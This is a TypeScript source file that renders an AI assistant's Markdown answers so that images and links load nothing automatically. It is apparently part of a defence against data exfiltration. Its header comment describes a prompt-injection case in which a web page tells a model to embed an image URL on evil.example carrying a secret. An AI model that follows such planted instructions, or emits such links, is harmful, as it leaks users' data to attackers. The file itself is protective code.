/**
 * The answer's Markdown, rendered so that nothing in it loads by itself.
 *
 * markdown-it with raw HTML off, plus rules of ours: an image is never an <img>, only a
 * link to it that says "image" and its host (a page can tell a model to embed
 * `![x](https://evil.example/?q=secret)`: rendered as an image, the browser would send the
 * secret without a click); every link shows its host, opens in a new tab and only on a
 * click, with rel="noopener noreferrer". `[n]` markers the run's citations number become
 * links to the sources under the answer. The page's Content-Security-Policy would block
 * an external image anyway; this is the first wall, that the second.
 */

import MarkdownIt from "markdown-it";
import type StateInline from "markdown-it/lib/rules_inline/state_inline.mjs";
import type Token from "markdown-it/lib/token.mjs";
import { t } from "./i18n";
import { hostOf } from "./dom";

/** What a rendering needs to know about its answer. */
export interface RenderEnv {
  /** The id the answer's citation anchors are made from. */
  anchorPrefix: string;
  /** The markers the run's citations carry: only these `[n]` become links. */
  markers: ReadonlySet<number>;
}

const md = new MarkdownIt({ html: false, linkify: true, breaks: true, typographer: false });
// Only URLs with a scheme become links: "example.org" in a sentence stays text.
md.linkify.set({ fuzzyLink: false, fuzzyEmail: false });
const escapeHtml = md.utils.escapeHtml;
const SAFE_SCHEMES = new Set(["http:", "https:", "mailto:"]);

function safeHref(raw: string): string | null {
  try {
    const url = new URL(raw, location.href);
    return SAFE_SCHEMES.has(url.protocol) ? url.href : null;
  } catch {
    return null;
  }
}

function linkAttributes(href: string): string {
  return `href="${escapeHtml(href)}" target="_blank" rel="noopener noreferrer"`;
}

md.renderer.rules.image = (tokens: Token[], idx: number): string => {
  const token = tokens[idx];
  const alt = token.content || t("image");
  const href = safeHref(token.attrGet("src") ?? "");
  const label = `${escapeHtml(t("image"))}: ${escapeHtml(alt)}`;
  if (!href) return `<span class="image-link">[${label}]</span>`;
  const host = hostOf(href);
  return (
    `<a class="image-link" ${linkAttributes(href)} title="${escapeHtml(t("opensNewTab"))}">` +
    `[${label}]</a> <span class="link-host">(${escapeHtml(host)})</span>`
  );
};

md.renderer.rules.link_open = (tokens: Token[], idx: number, _options, env: { hosts?: string[] }): string => {
  const token = tokens[idx];
  const href = safeHref(token.attrGet("href") ?? "");
  const hosts = (env.hosts ??= []);
  // A bare URL shows its whole target already; any other link shows its host after its text.
  hosts.push(href && token.markup !== "linkify" ? hostOf(href) : "");
  if (!href) return `<span class="inert-link">`;
  return `<a ${linkAttributes(href)} title="${escapeHtml(t("opensNewTab"))}">`;
};

md.renderer.rules.link_close = (tokens: Token[], idx: number, _options, env: { hosts?: string[] }): string => {
  const host = env.hosts?.pop() ?? "";
  const open = findOpen(tokens, idx);
  const closing = open && safeHref(open.attrGet("href") ?? "") ? "</a>" : "</span>";
  return host ? `${closing} <span class="link-host">(${escapeHtml(host)})</span>` : closing;
};

function findOpen(tokens: Token[], closeIdx: number): Token | undefined {
  let depth = 0;
  for (let i = closeIdx - 1; i >= 0; i--) {
    if (tokens[i].type === "link_close") depth++;
    if (tokens[i].type === "link_open") {
      if (depth === 0) return tokens[i];
      depth--;
    }
  }
  return undefined;
}

const CITATION = /^\[(\d{1,3})\](?!\()/;

md.inline.ruler.before("link", "citation_ref", (state: StateInline, silent: boolean): boolean => {
  const match = CITATION.exec(state.src.slice(state.pos));
  const env = state.env as Partial<RenderEnv>;
  if (!match || !env.markers?.has(Number(match[1]))) return false;
  if (!silent) state.push("citation_ref", "", 0).meta = { marker: Number(match[1]) };
  state.pos += match[0].length;
  return true;
});

md.renderer.rules.citation_ref = (tokens: Token[], idx: number, _options, env: RenderEnv): string => {
  const marker = Number(tokens[idx].meta.marker);
  return `<a class="citation-ref" href="#${escapeHtml(env.anchorPrefix)}-${marker}">[${marker}]</a>`;
};

/** The answer as HTML that loads nothing and runs nothing. */
export function renderMarkdown(text: string, env: RenderEnv): string {
  return md.render(text, { ...env, hosts: [] });
}
